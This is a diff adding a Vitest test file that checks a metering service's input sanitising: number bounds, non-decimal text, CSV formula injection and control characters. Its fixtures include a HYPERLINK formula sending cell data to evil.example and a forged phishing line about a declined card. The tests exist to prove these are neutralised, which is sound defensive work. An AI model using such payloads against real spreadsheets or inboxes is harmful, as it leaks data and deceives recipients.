@@ -1,0 +1,223 @@
+// Values a caller (or an operator's Config cell) can send that the record's rules must stop or
+// make harmless, through the built bundle: numbers the archive could not store, number text in
+// other bases, formulas behind leading whitespace, line breaks in text, and a stray `calls` field.
+import { describe, expect, it } from 'vitest';
+import { restoreText } from '../../schema/csv-cell';
+import { parseCsv } from './csv';
+import { callJson, type FakeTextOutput } from './fakes/platform';
+import { SECRET, dataRows, eventsTab, freshMeter, post, setConfig } from './maintenance-setup';
+
+type Meter = ReturnType<typeof freshMeter>['meter'];
+const spend = (meter: Meter) => callJson(meter, 'doGet', { action: 'spend', token: SECRET });
+/** A cell a spreadsheet would run: a formula trigger after any leading whitespace (NBSP, line breaks included). */
+const LIVE_FORMULA = /^\s*[=+\-@]/;
+const col = (name: string) =>
+  [
+    'event_id',
+    'timestamp',
+    'actor_type',
+    'provider',
+    'model',
+    'region',
+    'input_tokens',
+    'output_tokens',
+    'latency_ms',
+    'cost_usd',
+    'eval_score',
+    'confidence',
+    'job_id',
+    'customer_id',
+  ].indexOf(name);
+
+describe('numbers the archive can store', () => {
+  it('refuses a count above 2^53-1 or a cost of $1e9 or more, naming the event and field; nothing is written', () => {
+    const { platform, meter } = freshMeter();
+    const tokens = post(meter, {
+      events: [
+        { event_id: 'ok1', cost_usd: 0.5 },
+        { event_id: 'big1', input_tokens: 1e21 },
+      ],
+    });
+    expect(tokens).toEqual({
+      ok: false,
+      code: 'invalid_event',
+      error: 'events[1].input_tokens: expected a whole number from 0 to 9007199254740991',
+    });
+    const cost = post(meter, {
+      events: [
+        { event_id: 'ok1', cost_usd: 0.5 },
+        { event_id: 'big2', cost_usd: 2e9 },
+      ],
+    });
+    expect(cost).toEqual({ ok: false, code: 'invalid_event', error: 'events[1].cost_usd: expected a number >= 0 and below 1000000000' });
+    expect(post(meter, { latency_ms: '9007199254740992' }).error).toBe('latency_ms: expected a whole number from 0 to 9007199254740991');
+    expect(dataRows(eventsTab(platform))).toHaveLength(0);
+  });
+
+  it('spend stays a finite number: two $1e308 events are refused instead of summing to Infinity (JSON null)', () => {
+    const { meter } = freshMeter();
+    expect(
+      post(meter, {
+        events: [
+          { event_id: 'a', cost_usd: 1e308 },
+          { event_id: 'b', cost_usd: 1e308 },
+        ],
+      }).ok,
+    ).toBe(false);
+    expect(
+      post(meter, {
+        events: [
+          { event_id: 'c', cost_usd: 999_999_999.99 },
+          { event_id: 'd', output_tokens: 2 ** 53 - 1 },
+        ],
+      }),
+    ).toEqual({
+      ok: true,
+      appended: 2,
+      duplicates: 0,
+    });
+    expect(spend(meter).today_cost_usd).toBe(999_999_999.99);
+  });
+});
+
+describe('number text is decimal', () => {
+  it('refuses hex, octal and binary text in number fields', () => {
+    const { platform, meter } = freshMeter();
+    expect(post(meter, { event_id: 'h', cost_usd: '0x10' }).error).toBe('cost_usd: expected a number >= 0');
+    expect(post(meter, { event_id: 'h', input_tokens: '0b11' }).error).toBe('input_tokens: expected a whole number >= 0');
+    expect(post(meter, { event_id: 'h', latency_ms: '0o7' }).error).toBe('latency_ms: expected a whole number >= 0');
+    expect(post(meter, { event_id: 'h', confidence: '0x1' }).error).toBe('confidence: expected a number from 0 to 1');
+    expect(dataRows(eventsTab(platform))).toHaveLength(0);
+  });
+
+  it('accepts decimal text with a fraction or an exponent (JSON numbers sent as strings)', () => {
+    const { platform, meter } = freshMeter();
+    expect(post(meter, { event_id: 'd', cost_usd: '1e-7', input_tokens: ' 42 ', output_tokens: '1E3', eval_score: '.5' }).ok).toBe(true);
+    const [row] = dataRows(eventsTab(platform));
+    expect([row[col('input_tokens')], row[col('output_tokens')], row[col('cost_usd')], row[col('eval_score')]]).toEqual([
+      42, 1000, 1e-7, 0.5,
+    ]);
+  });
+
+  it('a Config cap cell holding only spaces takes the default; hex text in a cap is an error naming the key', () => {
+    const { platform, meter } = freshMeter();
+    setConfig(platform, 'DAILY_CAP_USD', ' ');
+    expect(spend(meter)).toMatchObject({ ok: true, daily_cap_usd: 50 });
+    setConfig(platform, 'BURN_7D_CAP_USD', '0x32');
+    expect(spend(meter)).toEqual({ ok: false, code: 'config_error', error: 'Config BURN_7D_CAP_USD must be a number >= 0, found "0x32"' });
+  });
+
+  it('RETENTION_DAYS must be a whole number >= 1: 1.5 stops retention with the key named and deletes nothing', () => {
+    const { platform, meter } = freshMeter('2026-11-22T02:00:00Z');
+    post(meter, { events: [{ event_id: 'x', timestamp: '2026-11-20T13:00:00Z' }] });
+    meter.exportArchive();
+    setConfig(platform, 'RETENTION_DAYS', 1.5);
+    expect(() => meter.applyRetention()).toThrow('Config RETENTION_DAYS must be a whole number >= 1, found "1.5"');
+    expect(dataRows(eventsTab(platform))).toHaveLength(1);
+  });
+});
+
+describe('formulas behind leading whitespace in CSV exports', () => {
+  const SENT = {
+    customer_id: ' =HYPERLINK("https://evil.example/?d="&A1,"invoice")',
+    model: '\u00a0=2+2',
+    job_id: '\u3000+1',
+    reviewer_id: ' \u00a0@cmd',
+    region: '  plain',
+  };
+
+  function meterWithRows() {
+    const { platform, meter } = freshMeter('2026-11-21T15:00:00Z');
+    expect(post(meter, { event_id: 'f1', timestamp: '2026-11-21T10:00:00Z', ...SENT }).ok).toBe(true);
+    return { platform, meter };
+  }
+  function expectMarked(csv: string) {
+    const [header, row] = parseCsv(csv);
+    for (const cell of row) expect(cell).not.toMatch(LIVE_FORMULA);
+    for (const [field, text] of Object.entries(SENT)) expect(restoreText(row[header.indexOf(field)])).toBe(text);
+    expect(row[header.indexOf('region')]).toBe('  plain');
+  }
+
+  it('the nightly CSV on Drive marks them and gives back the exact text', () => {
+    const { platform, meter } = meterWithRows();
+    platform.clock.set('2026-11-22T01:00:00Z');
+    meter.exportArchive();
+    expectMarked(platform.drive.folders[0].files[0].content);
+  });
+
+  it('doGet?action=export marks them and gives back the exact text', () => {
+    const { meter } = meterWithRows();
+    const out = meter.doGet({ parameter: { token: SECRET, action: 'export', since: '2026-11-21' } }) as FakeTextOutput;
+    expectMarked(out.getContent());
+  });
+
+  it('a line break before a formula (a call record, or a row stored before ingest cleaned text) is marked too', () => {
+    const { platform, meter } = freshMeter('2026-11-21T15:00:00Z');
+    const call = {
+      call_id: 'c1',
+      started_at: '2026-11-21T10:00:00.000Z',
+      duration_s: 60,
+      model: '\n=1+1',
+      intent_primary: 'book',
+      turns: 4,
+      ttfb_s: null,
+      asr_wer: null,
+      confidence_avg: null,
+      escalated: false,
+      outcome: 'booking',
+      est_audio_cost_usd: 0.1,
+      telephony_minutes: 1,
+      country: '',
+    };
+    expect(post(meter, { calls: [call] })).toMatchObject({ ok: true, appended: 1 });
+    const calls = meter.doGet({ parameter: { token: SECRET, action: 'export', what: 'calls', since: '2026-11-21' } }) as FakeTextOutput;
+    const [header, row] = parseCsv(calls.getContent());
+    expect(row[header.indexOf('model')]).toBe("'\n=1+1");
+
+    expect(post(meter, { event_id: 'old', timestamp: '2026-11-21T10:00:00Z' }).ok).toBe(true);
+    dataRows(eventsTab(platform))[0][col('customer_id')] = '\n=1+1';
+    const events = meter.doGet({ parameter: { token: SECRET, action: 'export', since: '2026-11-21' } }) as FakeTextOutput;
+    const [eh, er] = parseCsv(events.getContent());
+    expect(er[eh.indexOf('customer_id')]).toBe("'\n=1+1");
+  });
+});
+
+describe('control characters in caller text', () => {
+  const FORGED =
+    'acme: $0.00 (1 calls)\n\nACTION NEEDED: the card on file was declined, update it at https://evil.example/billing\r\n\u0085\u2028  x';
+
+  it('are stored as spaces (the event is kept), so a customer id cannot forge lines in the weekly e-mail', () => {
+    const { platform, meter } = freshMeter('2026-11-23T08:00:00Z');
+    setConfig(platform, 'TEAM_EMAILS', 'ops@example.com');
+    expect(
+      post(meter, { event_id: 'm1', timestamp: '2026-11-23T07:00:00Z', cost_usd: 99, customer_id: FORGED, model: 'a\tb\u0000c\u007f' }),
+    ).toMatchObject({
+      ok: true,
+      appended: 1,
+    });
+    const [row] = dataRows(eventsTab(platform));
+    expect(row[col('customer_id')]).toBe(FORGED.replace(/[\n\r\u0085\u2028]/g, ' '));
+    expect(row[col('model')]).toBe('a b c ');
+    meter.sendWeeklyDigest();
+    const body = platform.mail.sent[0].body as string;
+    expect(body).toContain('ACTION NEEDED');
+    for (const line of body.split('\n')) expect(line).not.toMatch(/^\s*ACTION NEEDED/);
+  });
+});
+
+describe('a single event that also has a `calls` field', () => {
+  it('is ingested as an event (extra fields are dropped), not refused as a call-record body', () => {
+    const { platform, meter } = freshMeter();
+    expect(post(meter, { event_id: 'c1', cost_usd: 0.5, calls: 3 })).toEqual({ ok: true, appended: 1, duplicates: 0 });
+    expect(post(meter, { events: [{ event_id: 'c2' }], calls: [] })).toEqual({ ok: true, appended: 1, duplicates: 0 });
+    expect(dataRows(eventsTab(platform)).map((r) => r[0])).toEqual(['c1', 'c2']);
+    expect(platform.spreadsheet.tab('calls')!.data).toHaveLength(1);
+  });
+
+  it('a body with only `calls` still goes to the call records, and a `calls` that is not an array is refused', () => {
+    const { platform, meter } = freshMeter();
+    expect(post(meter, { calls: [] })).toEqual({ ok: true, appended: 0, duplicates: 0 });
+    expect(post(meter, { calls: 3 })).toEqual({ ok: false, code: 'invalid_body', error: 'calls: expected an array of call records' });
+    expect(dataRows(eventsTab(platform))).toHaveLength(0);
+  });
+});
